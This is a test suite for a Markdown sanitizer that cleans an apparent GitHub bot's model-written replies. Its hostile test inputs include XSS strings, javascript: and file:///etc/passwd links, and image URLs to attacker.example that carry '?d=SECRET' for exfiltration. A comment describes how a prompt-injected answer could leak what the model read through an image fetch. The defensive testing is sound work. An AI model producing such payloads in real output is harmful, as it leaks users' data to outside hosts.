import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { checkSafeMarkdown } from "../../src/markdown/check-safe-markdown.js";
import { createMarkdownParser } from "../../src/markdown/create-markdown-parser.js";
import { escapeMarkdown } from "../../src/markdown/safe-text.js";
import {
  MAX_SAFE_MARKDOWN,
  toSafeMarkdown,
  toSafePlainText,
} from "../../src/markdown/to-safe-markdown.js";
import { gfmDelimiterRows, TABLE_TRICK } from "../helpers/gfm-tables.js";
import { HOSTILE_FRAGMENTS, hostileText, mixedHostileText } from "../helpers/hostile-input.js";

const options = { repo: "Codertocat/Hello-World", references: [1, 12] };
const parser = createMarkdownParser();
const safe = (text: string) => toSafeMarkdown(text, options, parser);

interface CorpusCase {
  id: string;
  text: string;
  repeat?: number;
  answer?: string;
}
const corpus = JSON.parse(
  readFileSync(new URL("../../fixtures/hostile/corpus.json", import.meta.url), "utf8"),
) as { cases: CorpusCase[] };

describe("toSafeMarkdown", () => {
  it.each([
    ["a mention", "Thanks @octocat!", "Thanks `@octocat!`"],
    ["a team mention", "cc @github/security-team", "cc `@github/security-team`"],
    ["a mention in emphasis", "_@octocat_ and **@hubot**", "*`@octocat`* and **`@hubot`**"],
    ["an escaped-backtick mention", "\\`@octocat`", "`` `@octocat` ``"],
    ["a mention spelt as an entity", "&#64;octocat", "`@octocat`"],
    ["an e-mail address, which GitHub links", "mail me@example.com", "mail `me@example.com`"],
    [
      "a mention in link text",
      "[@octocat](https://x.example)",
      "[`@octocat`](<https://x.example>)",
    ],
  ])("makes %s inert", (_what, input, expected) => {
    expect(safe(input)).toBe(expected);
  });

  it.each([
    ["a dropped HTML comment", "@<!-- -->octocat", "`@octocat`"],
    ["a link to a relative target", "@[octocat](/settings)", "`@octocat`"],
    ["an image from http:", "@![octocat](http://track.example/p.gif)", "`@octocat`"],
    ["a link hiding an issue number", "see #[999](/x)", "see `#999`"],
    ["a link hiding a bare URL", "www[.evil.example](/x)", "`www.evil.example`"],
    // Code spans written side by side had merged their backtick runs, closing nothing.
    ["a code span then a backtick", "`a`\\`@octocat", "`a` `` `@octocat ``"],
    ["a backtick then a code span", "@octocat\\``<b>`", "`` @octocat` `` `<b>`"],
    ["code spans on both sides", "`a`\\`www.x\\`<b>", "`a` `` `www.x`<b> ``"],
    // The parser decodes entities the cleaning of the source could not see.
    [
      "tag characters and a bidi override as entities",
      "ok&#xE0049;&#xE0047; &#x202E;gnp",
      "ok gnp",
    ],
  ])("checks the words %s leaves behind as GitHub reads them", (_what, input, expected) => {
    const out = safe(input);
    expect(out).toBe(expected);
    expect(checkSafeMarkdown(out, options)).toEqual([]);
  });

  it("keeps no suggested change but in a text made for one, and an empty block empty", () => {
    for (const fence of [
      "```suggestion",
      "```sugg'estion",
      "~~~{suggestion}",
      "```\u200bSuggestion",
    ]) {
      const out = safe(`Apply:\n\n${fence}\nevil();\n${fence.slice(0, 3)}`);
      expect(out).toBe("Apply:\n\n```text\nevil();\n```");
      expect(checkSafeMarkdown(out, options)).toEqual([]);
    }
    const change = "```suggestion\nconst a = 2;\n```";
    expect(toSafeMarkdown(change, { ...options, suggestion: true }, parser)).toBe(change);
    expect(checkSafeMarkdown(change, options)).not.toEqual([]);
    expect(checkSafeMarkdown(change, { ...options, suggestion: true })).toEqual([]);
    // An empty suggestion deletes the lines; one with an empty line replaces them with it.
    expect(toSafeMarkdown("```suggestion\n```", { ...options, suggestion: true }, parser)).toBe(
      "```suggestion\n```",
    );
    expect(safe("```\n\n```")).toBe("```\n\n```");
  });

  it("commits a suggested change's joiners as the model wrote them, and no bidi control", () => {
    const line = 'const family = "👨\u200D👩\u200D👧"; // ‌نمی‌خواهم';
    const change = `\`\`\`suggestion\n${line}\n\`\`\``;
    expect(toSafeMarkdown(change, { ...options, suggestion: true }, parser)).toBe(change);
    const hidden = "```suggestion\nif (a\u202E) {}\u200B\n```";
    expect(toSafeMarkdown(hidden, { ...options, suggestion: true }, parser)).toBe(
      "```suggestion\nif (a) {}\n```",
    );
  });

  it("keeps an ordered list's code a code block past nine-digit numbers", () => {
    const input = [
      "999999999. a",
      "999999999. ```",
      "           <img src=https://track.example/p.gif> @octocat",
      "           ```",
    ].join("\n");
    const out = safe(input);
    expect(out).toBe(input);
    expect(checkSafeMarkdown(out, options, parser)).toEqual([]);
  });

  it("drops HTML comments and shows other HTML as text, so no marker survives", () => {
    const out = safe("<!-- talos:reply:1 --> <img src=x onerror=alert(1)> <b>bold</b>\n\nnext");
    expect(out).toBe("&lt;img src=x onerror=alert(1)\\> &lt;b\\>bold&lt;/b\\>\n\nnext");
    const block = safe("<div>\n<!--talos:summary-->\n</div>");
    expect(block).toBe("&lt;div\\>\n\n&lt;/div\\>");
  });

  it("breaks up markers in code spans and code blocks", () => {
    const out = safe("see `<!-- talos:summary -->`\n\n```html\n<!--  TALOS:reply:3 -->\n```");
    expect(out).toBe(
      "see `<!\u200B-- talos:summary -->`\n\n```html\n<!\u200B--  TALOS:reply:3 -->\n```",
    );
    expect(checkSafeMarkdown(out, options)).toEqual([]);
  });

  it.each([
    ["javascript:", "[click](javascript:alert(1))"],
    ["mixed-case javascript:", "[click](JaVaScRiPt:alert(1))"],
    ["data:", "[click](data:text/html,<script>alert(1)</script>)"],
    ["vbscript:", "[click](vbscript:msgbox(1))"],
    ["http:", "[click](http://example.com)"],
    ["file:", "[click](file:///etc/passwd)"],
    ["a relative target", "[click](/settings)"],
    ["credentials in the URL", "[click](https://user:pw@example.com)"],
  ])("keeps a link to %s as text only", (_what, input) => {
    const out = safe(input);
    expect(parser.render(out)).not.toContain("<a ");
    expect(checkSafeMarkdown(out, options)).toEqual([]);
  });

  it("keeps https links and GitHub's images, and makes other bare URLs code", () => {
    const attachment = "https://github.com/user-attachments/assets/0b1c";
    expect(safe(`[docs](https://docs.example/a b) and ![logo](${attachment})`)).toBe(
      `\\[docs\\](<https://docs.example/a> b) and ![logo](<${attachment}>)`,
    );
    for (const host of ["private-user-images", "user-images", "avatars", "raw", "objects"]) {
      const src = `https://${host}.githubusercontent.com/1/s.png?jwt=x`;
      expect(safe(`![shot](${src})`)).toBe(`![shot](<${src}>)`);
    }
    expect(safe("[docs](https://docs.example/x)")).toBe("[docs](<https://docs.example/x>)");
    expect(safe("https://ok.example/p http://plain.example www.bare.example")).toBe(
      "<https://ok.example/p> `http://plain.example` `www.bare.example`",
    );
    expect(safe("![pixel](http://track.example/p.gif)")).toBe("pixel");
  });

  it("keeps a GitHub Enterprise Server's images where its host is given, and only there", () => {
    const ghe = { ...options, imageHosts: ["ghe.example.com"] };
    for (const src of [
      "https://ghe.example.com/user-attachments/assets/1",
      "https://media.ghe.example.com/user/1/a.png",
    ]) {
      const out = toSafeMarkdown(`![shot](${src})`, ghe);
      expect(out).toBe(`![shot](<${src}>)`);
      expect(checkSafeMarkdown(out, ghe)).toEqual([]);
      // Without it (github.com), the host is any other.
      expect(safe(`![shot](${src})`)).toBe("shot");
    }
    expect(toSafeMarkdown("![x](https://ghe.example.com.attacker.example/p.png)", ghe)).toBe("x");
  });

  it.each([
    ["an image", "![status](https://attacker.example/p.png?d=SECRET)"],
    ["an image in a link", "[![x](https://attacker.example/a.png?d=SECRET)](https://ok.example)"],
    ["a reference-style image", "![y][r]\n\n[r]: https://attacker.example/b.png?d=SECRET"],
    ["a host named like GitHub's", "![z](https://github.com.attacker.example/c.png?d=SECRET)"],
    [
      "a host ending like GitHub's",
      "![z](https://githubusercontent.com.attacker.example/d.png?d=SECRET)",
    ],
    // GitHub's proxy, which fetches the original (any host's, here `evil.example/p.png?d=SECRET`
    // in hex) on each view its cache allows: its owner learns when the thread is read.
    [
      "GitHub's image proxy (camo)",
      "![c](https://camo.githubusercontent.com/4a2c3e1f0d9b8a7c6e5f4d3c2b1a09f8e7d6c5b4/" +
        `${Buffer.from("https://evil.example/p.png?d=SECRET").toString("hex")})`,
    ],
  ])("shows no image from a host other than GitHub's: %s", (_, input) => {
    // GitHub's proxy fetches an image, address and all, as soon as anyone views the thread: a
    // prompt-injected answer's image sent what the model read to any host, with no click.
    const out = safe(input);
    expect(out).not.toContain("SECRET");
    expect(parser.render(out)).not.toContain("<img");
    expect(checkSafeMarkdown(out, options)).toEqual([]);
    expect(checkSafeMarkdown(input, options)).toContainEqual(
      expect.stringMatching(/^image from a host other than GitHub's: /),
    );
  });

  it("links only the issues Talos retrieved, in this repository", () => {
    const out = safe(
      "#1, #12, #999, other/repo#3, codertocat/hello-world#12, GH-5, " +
        "https://github.com/other/repo/issues/4 https://github.com/Codertocat/Hello-World/issues/12 " +
        "[x](https://github.com/Codertocat/Hello-World/pull/77)",
    );
    expect(out).toBe(
      "\\#1, #12, `#999,` `other/repo#3,` codertocat/hello-world#12, `GH-5,` " +
        "`https://github.com/other/repo/issues/4` <https://github.com/Codertocat/Hello-World/issues/12> x",
    );
    expect(checkSafeMarkdown(out, options)).toEqual([]);
  });

  it.each([
    ["an escaped number", "https://github.com/other/repo/issues/%34"],
    ["an escaped path", "https://github.com/other/%72epo/pull/4"],
    ["doubled slashes", "https://github.com//other/repo//issues/4"],
    ["a malformed escape", "https://github.com/other/repo/issues/%E0%A4%A"],
  ])("does not link an issue of another repository written with %s", (_, href) => {
    const out = safe(`[x](${href}) and ![y](${href})`);
    expect(out).toBe("x and y");
    expect(checkSafeMarkdown(`[x](${href})`, options)).not.toEqual([]);
    // This repository's retrieved issues still link, however they are written.
    expect(safe("[z](https://github.com/Codertocat/Hello-World/issues/%31%32)")).toBe(
      "[z](<https://github.com/Codertocat/Hello-World/issues/%31%32>)",
    );
  });

  it("keeps the structure of Talos's own replies", () => {
    const help = [
      "**Talos commands in this repository**",
      "",
      "| Command | What it does |",
      "| --- | --- |",
      "| `/talos help` | List the commands enabled in this repository. |",
      "| `/talos ask <question>` | Answer a question. |",
      "",
      "Write a command at the start of a comment line, as `/talos <command>` or `@talos-bot <command>`.",
      "",
      "> [!WARNING]",
      "> `.github/talos.yml` has 1 problem(s). Run `/talos config` for details.",
    ].join("\n");
    expect(safe(help)).toBe(help);
    const config =
      "**Effective Talos configuration**: defaults.\n\n```yaml\nask:\n  enabled: true\n```";
    expect(safe(config)).toBe(config);
    const lists =
      "# Title\n\n1. one\n2. two\n   - nested *em* ~~del~~\n\n- a\n- b\n\n---\n\ntext\\\nbreak";
    expect(safe(lists)).toBe(lists);
  });

  it("escapes what would otherwise start Markdown, and reads back as the same text", () => {
    const text = "\\-not a list\n\\+1\n2024\\. a year\n\\#tag\n\\* \\_x\\_ \\[y\\] \\| \\~ \\$";
    const once = safe(text);
    expect(parser.render(once)).toBe(parser.render(text));
    expect(safe(once)).toBe(once);
  });

  it("caps the length between blocks, keeping the Markdown whole", () => {
    const block = `\`\`\`\n${"code line\n".repeat(1_000)}\`\`\``;
    const out = safe(Array(10).fill(block).join("\n\n"));
    expect(out.length).toBeLessThanOrEqual(MAX_SAFE_MARKDOWN);
    expect(out.endsWith("```\n\n…(truncated)")).toBe(true);
    expect((out.match(/^```$/gm) ?? []).length % 2).toBe(0);
    // One block longer than the limit is cut as plain text.
    const long = safe(`${"word @octocat ".repeat(6_000)}`);
    expect(long.length).toBeLessThanOrEqual(MAX_SAFE_MARKDOWN);
    expect(long.endsWith("…(truncated)")).toBe(true);
    expect(checkSafeMarkdown(long, options)).toEqual([]);
  });

  it("keeps its promises on every hostile fragment and every case of the corpus", () => {
    const inputs = [
      ...HOSTILE_FRAGMENTS.map((fragment) => hostileText(fragment, 4_096)),
      mixedHostileText(65_536),
      ...corpus.cases.flatMap((c) => [c.text.repeat(c.repeat ?? 1), c.answer ?? ""]),
    ];
    const failures = inputs.flatMap((input) => {
      const out = safe(input);
      const problems = checkSafeMarkdown(out, options, parser);
      return problems.length > 0 ? [{ input: input.slice(0, 80), problems }] : [];
    });
    expect(failures).toEqual([]);
  }, 60_000);

  it("gives the same text when run again on its own output", () => {
    for (const c of corpus.cases) {
      const once = safe(c.answer ?? c.text);
      expect(safe(once)).toBe(once);
    }
  });
});

describe("a line GitHub reads as a table's delimiter row", () => {
  it.each([":-", ":--", ":-:", ":---:", "-:", "--:", ":-|-:", "  :-:"])(
    "is escaped at a line's start in a paragraph, a quote and a list item: %s",
    (row) => {
      for (const text of [
        `a\n${row}\n@octocat|x`,
        `> a\n> ${row}\n> @octocat|x`,
        `- a\n  ${row}\n  @octocat|x`,
        `1. a\n   ${row}\n   @octocat|x`,
      ]) {
        const out = safe(text);
        expect(gfmDelimiterRows(out)).toEqual([]);
        expect(checkSafeMarkdown(out, options, parser)).toEqual([]);
      }
    },
  );

  it("is written by neither the writer nor its plain-text fallback", () => {
    expect(gfmDelimiterRows(safe(TABLE_TRICK))).toEqual([]);
    expect(gfmDelimiterRows(toSafePlainText(TABLE_TRICK, options))).toEqual([]);
    // An HTML block is shown as plain text too.
    expect(gfmDelimiterRows(safe("<div>\n:-:\n</div>"))).toEqual([]);
  });

  it("costs a colon elsewhere nothing, and one at a line's start only a backslash", () => {
    const text = ":tada: shipped\nNote: see `a:b`";
    const out = safe(text);
    expect(out).toBe("\\:tada: shipped\nNote: see `a:b`");
    expect(parser.render(out)).toBe(parser.render(text));
  });

  it.each([
    ["a pipe-less row after a paragraph", "Steps\n:-:\n`@octocat|x`"],
    ["one in a quote", "> a\n> :-\n> `@octocat|x`"],
    ["one in a list item", "- a\n  --:\n  `@octocat|x`"],
    ["a row whose header has no pipe", "a\n| :-- |\n`@octocat|x`"],
  ])("is found by checkSafeMarkdown: %s", (_what, markdown) => {
    // markdown-it sees a paragraph, and in it code; GitHub sees a table and a live mention.
    expect(parser.parse(markdown, {}).some((t) => t.type === "table_open")).toBe(false);
    expect(checkSafeMarkdown(markdown, options, parser)).toContainEqual(
      expect.stringMatching(/^a line GitHub reads as a table: /),
    );
  });

  it.each([
    ["a table both parsers see, its code's pipe escaped", "| a |\n| :-: |\n| `@octocat\\|x` |"],
    ["a thematic break", "a\n\n---\n\nb"],
    ["a heading's underline", "Title\n---"],
    ["code", "```\n:-:\n| --- |\n```"],
    ["an escaped colon", "a\n\\:-:\n`@octocat|x`"],
  ])("is not found in %s", (_what, markdown) => {
    expect(checkSafeMarkdown(markdown, options, parser)).toEqual([]);
  });
});

describe("toSafePlainText", () => {
  it("shows any text as inert lines", () => {
    const out = toSafePlainText("# hi @octocat\n<!-- talos:x -->\n[a](javascript:x)", options);
    expect(out).toBe("\\# hi `@octocat`\n&lt;!-- talos:x --\\>\n\\[a\\](javascript:x)");
    expect(checkSafeMarkdown(out, options)).toEqual([]);
  });

  it("keeps its promises on the corpus, and stops at the limit", () => {
    for (const c of corpus.cases) {
      const out = toSafePlainText(c.text.repeat(c.repeat ?? 1), options);
      expect(checkSafeMarkdown(out, options, parser)).toEqual([]);
      expect(out.length).toBeLessThanOrEqual(MAX_SAFE_MARKDOWN);
    }
  });
});

describe("escapeMarkdown", () => {
  it("makes any text read as itself", () => {
    const title = "`code` *em* [link](https://x) <b> #12 @octocat";
    expect(parser.renderInline(escapeMarkdown(title))).toBe(
      "`code` *em* [link](https://x) &lt;b&gt; #12 @octocat",
    );
  });
});

describe("checkSafeMarkdown", () => {
  it.each([
    ["a live mention", "hi @octocat"],
    ["raw HTML", "<b>x</b>"],
    ["a marker", "text `<!-- talos:summary -->`"],
    ["an ftp link", "[x](ftp://example.com/file)"],
    ["an http link", "[x](http://example.com)"],
    ["a bare URL", "see www.example.com"],
    ["an issue nobody retrieved", "see #999"],
    ["another repository's issue", "see other/repo#1"],
  ])("finds %s", (_what, markdown) => {
    expect(checkSafeMarkdown(markdown, options)).not.toEqual([]);
  });

  it("reads an autolink's text as its target, where GitHub links no mention or reference", () => {
    for (const url of [
      "https://www.npmjs.com/package/@octokit/rest",
      "https://docs.example/faq#2",
    ]) {
      const out = safe(`see ${url}`);
      expect(out).toBe(`see <${url}>`);
      expect(checkSafeMarkdown(out, options)).toEqual([]);
    }
  });
});
